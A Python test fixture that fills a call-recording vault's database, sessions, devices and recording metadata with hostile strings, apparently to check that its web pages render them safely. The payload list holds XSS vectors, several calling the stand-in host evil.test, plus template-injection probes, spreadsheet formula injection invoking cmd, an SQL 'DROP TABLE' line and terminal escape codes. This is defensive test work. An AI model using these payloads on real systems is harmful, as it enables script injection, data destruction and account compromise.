"""Text that wants to be more than text, and ways to put it wherever pages look.

What the API takes goes through the rooms; what it refuses goes straight into the
rows, as somebody with the database's password would put it there.
"""

import itertools
from collections.abc import Iterator, Sequence
from dataclasses import dataclass, replace
from typing import Final

from sqlalchemy import Executable, Table, insert, update

from tests.simulators.web_vault import Call, WebVault
from vault.access.permissions import Permission, Role, ScopeKind
from vault.access.policy_changes import GiveRight
from vault.access.rights import HolderKind, NewRight
from vault.access.second_person import Asked
from vault.access.sessions import SessionOpened
from vault.access.tables import (
    ADDRESS_RULE,
    DEVICE,
    EXTENSION,
    GRANTED_RIGHT,
    PASSKEY,
    PERSON,
    PERSON_ROLE,
    PERSON_WORKGROUP,
    RECORDING_CLASS,
    SESSION,
    TOKEN,
    WORKGROUP,
)
from vault.audit.entry import Action, Draft
from vault.core.flow import Actor, ActorKind, Caller
from vault.core.ids import RecordingId, UserId, new_id
from vault.sealing.metadata import ParticipantMetadata

# Elements that come of one of these carry the attribute `h16`, and scripts call `hit`.
PAYLOADS: Final = (
    # Elements with scripts of their own.
    "<script h16>hit(1)</script>",
    "</script><script h16>hit(2)</script>",
    "</textarea><script h16>hit(3)</script>",
    "</title><script h16>hit(4)</script>",
    "<!--><script h16>hit(5)</script>-->",
    "<![CDATA[<script h16>hit(6)</script>]]>",
    "<SCRIPT/h16/src=//evil.test/x.js></SCRIPT>",
    # Out of an attribute, and out of what may not hold elements.
    '"><img h16 src=x onerror=hit(7)>',
    "'><img h16 src=x onerror=hit(8)>",
    "</option></select><img h16 src=x onerror=hit(9)>",
    "</template><img h16 src=x onerror=hit(10)>",
    '" onmouseover="hit(11)" h16="',
    "' autofocus onfocus='hit(12)' h16='",
    '" hx-get="//evil.test/" hx-trigger="load',
    # Elements that do something when they are there.
    "<img h16 src=//evil.test/x.png>",
    "<svg h16 onload=hit(13)>",
    "<svg h16><script>hit(14)</script></svg>",
    '<math h16><mi xlink:href="javascript:hit(15)">x</mi></math>',
    '<iframe h16 srcdoc="<script>hit(16)</script>">',
    "<iframe h16 src=javascript:hit(17)>",
    "<details h16 open ontoggle=hit(18)>",
    "<video h16><source onerror=hit(19)></video>",
    "<template h16><script>hit(20)</script></template>",
    "<noscript h16><img src=x onerror=hit(21)></noscript>",
    "<div h16 hx-get=//evil.test/ hx-trigger=load>",
    "<base h16 href=//evil.test/>",
    "<meta h16 http-equiv=refresh content=0;url=//evil.test/>",
    # Links.
    "javascript:hit(22)",
    "jaVasCript:hit(23)//",
    "data:text/html,<script>hit(24)</script>",
    "<a h16 href=javascript:hit(25)>x</a>",
    # Style.
    "<style h16>*{background:url(//evil.test/s)}</style>",
    "</style><link h16 rel=stylesheet href=//evil.test/c>",
    'x" style="background:url(//evil.test/b)" h16="',
    # Names that scripts of the page may look for.
    "<form h16 id=csrf><input name=attributes></form>",
    "<a h16 id=body name=forms>",
    "__proto__",
    "constructor",
    # Templates.
    "{{7*7}}{{ reader.csrf }}",
    "${7*7}#{7*7}{%include 'base.html'%}",
    # What is decoded once too often.
    "&lt;script h16&gt;hit(26)&lt;/script&gt;",
    "&#60;img h16 src=x onerror=hit(27)&#62;",
    "%3Cscript%20h16%3Ehit(28)%3C/script%3E",
    "\uff1cscript h16\uff1ehit(29)\uff1c/script\uff1e",
    # Directions, nothing to see, four octets.
    "\u202e>tpircs/<evil\u202c",
    "\u2066<b h16>\u2069\u200b\ufeff",
    "\U0001f600\U0001d54f<b h16>\u0301\u0301\u0301",
    # Spreadsheets and shells.
    '=HYPERLINK("http://evil.test/","x")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "'; DROP TABLE person; --",
    # Long: a word that no line takes.
    "<b h16>" + "W" * 57,
)

CONTROLS: Final = "\x1b]0;owned\x07\x1b[31m\x7f\x01"
"Where nothing refuses them: sealed metadata, and rows."

ALL_IN_ONE: Final = "\u00b7".join((*PAYLOADS, CONTROLS))


BREAKING: Final = tuple(
    one for one in PAYLOADS if '"' in one or one.startswith(("'", "</", "<!", "&"))
)
"Those that leave an attribute or an element, for fields that take little at a time."

_EMERGENCIES: Final = 12


def packed(most: int, texts: Sequence[str] = PAYLOADS) -> list[str]:
    """Return *texts*, several in one of at most *most* characters."""
    found = [""]
    for one in texts:
        joined = f"{found[-1]} {one}" if found[-1] else one
        found[-1:] = [joined] if len(joined) <= most else [found[-1], one]
    return found


@dataclass(frozen=True, slots=True, kw_only=True)
class Planted:
    """Where hostile text is now, and who looks at it."""

    looks: SessionOpened
    """A supervisor, officer and administrator in one, whose name is hostile: the
    duties that nobody has together, so that one window sees every page."""
    recording: RecordingId
    classified: RecordingId
    "Its class asks for a reason before it plays."
    device: str
    fields: tuple[str, ...]
    "What was filled, as words."


class Planting:
    """Fills the fields of one vault."""

    def __init__(self, vault: WebVault) -> None:
        self._vault = vault
        self._services = vault.services()
        self._now = vault.clock()
        self._names = itertools.count()
        self._statements: list[Executable] = []
        self.fields: list[str] = []

    def plant(self) -> Planted:
        """Fill everything."""
        groups = [self._row_of_name(WORKGROUP, one) for one in PAYLOADS]
        people = [self._person(one, [Role.AGENT]) for one in PAYLOADS]
        looker = self._person(
            ALL_IN_ONE, [Role.SUPERVISOR, Role.OFFICER, Role.ADMINISTRATOR]
        )
        self._fields("person", "name", "source")
        self._fields("workgroup", "name", "class")
        self._classes_and_rights(people, groups)
        self._tables()
        device = self._devices()
        self._write()
        self._duties(people, groups)
        self._trail(people)
        opened = self._services.sessions.open(looker, methods=("pwd", "otp"))
        self._sessions(people, looker)
        recording, classified = self._recordings(looker)
        self._write()
        return Planted(
            looks=opened,
            recording=recording,
            classified=classified,
            device=device,
            fields=tuple(self.fields),
        )

    def _fields(self, of: str, *names: str) -> None:
        self.fields += [f"{of}: {name}" for name in names]

    def _run(self, statement: Executable) -> None:
        self._statements.append(statement)

    def _write(self) -> None:
        """Write all that `_run` took, in one transaction: each costs an fsync."""
        with self._vault.catalog.begin() as connection:
            for statement in self._statements:
                connection.execute(statement)
        self._statements.clear()

    def _row_of_name(self, table: Table, name: str, **more: object) -> str:
        row_id = new_id()
        self._run(
            insert(table).values(
                id=row_id, name=name, name_key=f"hostile-{next(self._names)}", **more
            )
        )
        return row_id

    def _person(self, name: str, roles: Sequence[Role]) -> UserId:
        user_id = self._row_of_name(
            PERSON,
            name,
            password_hash="",
            source=name if roles == [Role.AGENT] else "local",
            external_id=name,
        )
        for role in roles:
            self._run(insert(PERSON_ROLE).values(user_id=user_id, role=role))
        return UserId(user_id)

    def _classes_and_rights(
        self, people: Sequence[UserId], groups: Sequence[str]
    ) -> None:
        for name, person, group in zip(PAYLOADS, people, groups, strict=True):
            self._run(
                insert(RECORDING_CLASS).values(
                    name=name, needs_reason=True, needs_approval=False
                )
            )
            self._run(
                update(WORKGROUP).where(WORKGROUP.c.id == group).values(class_name=name)
            )
            for kind, holder in (("user", person), ("role", name)):
                self._run(
                    insert(GRANTED_RIGHT).values(
                        id=new_id(),
                        holder_kind=kind,
                        holder=holder,
                        permission=Permission.AUDIT_TRAIL_READ,
                        scope_kind="class",
                        scope_value=name,
                        valid_from_ns=self._now,
                        created_ns=self._now,
                        granted_by=name,
                    )
                )
        self._fields("class", "name")
        self._fields("right", "holder (person)", "holder (role)", "over")

    def _tables(self) -> None:
        for name in PAYLOADS:
            self._run(
                insert(EXTENSION).values(
                    id=new_id(), pattern=name, is_wild=False, agent=name, workgroup=name
                )
            )
            # Those of web itself would keep everybody out: they are read, not drawn.
            self._run(
                insert(ADDRESS_RULE).values(
                    id=new_id(),
                    listener="sip",
                    verdict="allow",
                    prefix=name,
                    created_ns=self._now,
                )
            )
        self._fields("extension", "pattern", "agent", "workgroup")
        self._fields("address rule", "prefix")

    def _devices(self) -> str:
        found = [
            self._row_of_name(
                DEVICE,
                name,
                secret_sha256=new_id().encode(),
                media_advertise=name,
                addresses=name,
                media_addresses=name,
                certificates=name,
            )
            for name in (*PAYLOADS, ALL_IN_ONE)
        ]
        self._fields(
            "device", "name", "addresses", "media addresses", "certificates",
            "media address",
        )  # fmt: skip
        return found[-1]

    def _duties(self, people: Sequence[UserId], groups: Sequence[str]) -> None:
        duties = self._services.duties
        pairs = list(zip(people, groups, strict=True))
        (person, group), *others = pairs
        given = NewRight(
            holder_kind=HolderKind.USER,
            holder=person,
            permission=Permission.RECORDING_MEDIA_PLAY,
            scope_kind=ScopeKind.WORKGROUP,
            scope_value=group,
        )
        asked = duties.second_person.run(
            GiveRight(new=given), asker=person, tell=lambda _: None, ask=_nobody
        )
        assert isinstance(asked, Asked)
        # The others ask for the same, each for themselves.
        first = asked.approval.asked.change
        for another, other_group in others:
            new = first.replace(person, another).replace(group, other_group)
            duties.approvals.ask(
                replace(asked.approval.asked, requester_id=another, change=new),
                tell=lambda _: None,
            )
        self._fields("approval", "requester", "holder", "workgroup")
        for one in people[:_EMERGENCIES]:
            duties.emergencies.open(one, by=_actor(one), tell=lambda _: None)
        self._fields("emergency", "who")

    def _trail(self, people: Sequence[UserId]) -> None:
        self._services.warden.append(
            *(
                Draft(
                    action=Action.ACCESS_SESSION_OPENED,
                    caller=Caller(actor=_actor(one), origin="192.0.2.9"),
                    detail={"user": one},
                )
                for one in people
            )
        )
        self._fields("trail", "who")

    def _sessions(self, people: Sequence[UserId], looker: UserId) -> None:
        until = self._now + 3600 * 10**9
        for name, person in zip(PAYLOADS, people, strict=True):
            for owner in (person, looker):
                common = {
                    "user_id": owner,
                    "created_ns": self._now,
                    "used_ns": self._now,
                    "expires_ns": until,
                }
                self._run(
                    insert(SESSION).values(
                        id=new_id(),
                        secret_sha256=new_id().encode(),
                        kind="browser",
                        origin=name,
                        methods=name,
                        authenticated_ns=self._now,
                        **common,
                    )
                )
                self._run(
                    insert(TOKEN).values(
                        id=new_id(),
                        secret_sha256=new_id().encode(),
                        name=name,
                        used_from=name,
                        **common,
                    )
                )
            self._run(
                insert(PASSKEY).values(
                    id=new_id(),
                    credential_id=new_id().encode(),
                    user_id=looker,
                    public_key=b"x",
                    sign_count=0,
                    name=name,
                    created_ns=self._now,
                )
            )
        self._fields("session", "origin", "methods")
        self._fields("token", "name", "last used from")
        self._fields("passkey", "name")

    def _recordings(self, looker: UserId) -> tuple[RecordingId, RecordingId]:
        found = []
        for number, call in enumerate((*self._calls(), self._full_call())):
            name, kept = call.workgroup, f"planted-{number}"
            found.append(self._vault.record(replace(call, workgroup=kept)))
            group = self._vault.workgroups.by_name(kept)
            class_name = "" if number else ALL_IN_ONE
            self._run(
                update(WORKGROUP)
                .where(WORKGROUP.c.id == group.id)
                .values(name=name, class_name=class_name)
            )
            self._run(
                insert(PERSON_WORKGROUP).values(user_id=looker, workgroup_id=group.id)
            )
        self._run(
            insert(RECORDING_CLASS).values(
                name=ALL_IN_ONE, needs_reason=True, needs_approval=False
            )
        )
        self._fields(
            "recording", "caller", "callee", "agent", "workgroup", "attribute name",
            "attribute", "PBX id", "device", "stream", "codec", "suite", "class",
        )  # fmt: skip
        self._fields("participant", "name", "address of record", "agent", "lane")
        return found[-1], found[0]

    def _calls(self) -> Iterator[Call]:
        for one in packed(128):
            yield Call(caller=one, callee=one, agent=one, workgroup=one, seconds=0.5)

    def _full_call(self) -> Call:
        return Call(
            caller=ALL_IN_ONE,
            callee=ALL_IN_ONE,
            agent=ALL_IN_ONE,
            workgroup=ALL_IN_ONE,
            pbx_id=ALL_IN_ONE,
            device=ALL_IN_ONE,
            labels=(ALL_IN_ONE, "customer"),
            codec=ALL_IN_ONE,
            suite=ALL_IN_ONE,
            attributes={one: one for one in (*PAYLOADS, CONTROLS)},
            participants=tuple(
                ParticipantMetadata(
                    id=str(number),
                    name=one,
                    aor=f"sip:{one}@{one}",
                    agent=one,
                    streams=(ALL_IN_ONE,),
                )
                for number, one in enumerate((*PAYLOADS, CONTROLS))
            ),
        )


def _actor(user_id: UserId) -> Actor:
    return Actor(kind=ActorKind.USER, id=user_id)


def _nobody(*_: object) -> None:
    """Tell nobody."""
